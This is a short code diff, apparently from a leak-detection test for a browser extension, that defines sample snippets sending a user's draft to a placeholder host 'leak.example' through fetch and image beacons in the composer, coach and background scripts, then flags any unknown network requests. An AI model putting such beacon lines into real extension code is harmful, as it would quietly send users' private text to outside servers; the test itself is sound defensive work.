@@ -10,7 +10,7 @@ import { pages } from './server';
 const LEAK = 'leak.example';
 /** The parts of the extension that run on their own, and how each of them would let a draft out. */
 const LEAKS = {
-  'content-scripts/composer.js': `fetch('https://${LEAK}/waiting', { mode: 'no-cors' });`,
+  'composer.js': `fetch('https://${LEAK}/waiting', { mode: 'no-cors' });`,
   'coach.js': `new Image().src = 'https://${LEAK}/coach';`,
   'background.js': `fetch('https://${LEAK}/background', { mode: 'no-cors' });`,
 };
@@ -70,7 +70,7 @@ function strangers({ world }: Guest): string[] {
   const known = new Set(
     pages.flatMap(({ url }) => {
       const { host, pathname, search } = new URL(url);
-      return [host + pathname + search, `${host}/page.css`, `${host}/x.js`, `${host}/facebook.js`];
+      return [host + pathname + search, `${host}/page.css`, `${host}/page.js`];
     }),
   );
   return world.requests.filter((request) => !known.has(request));
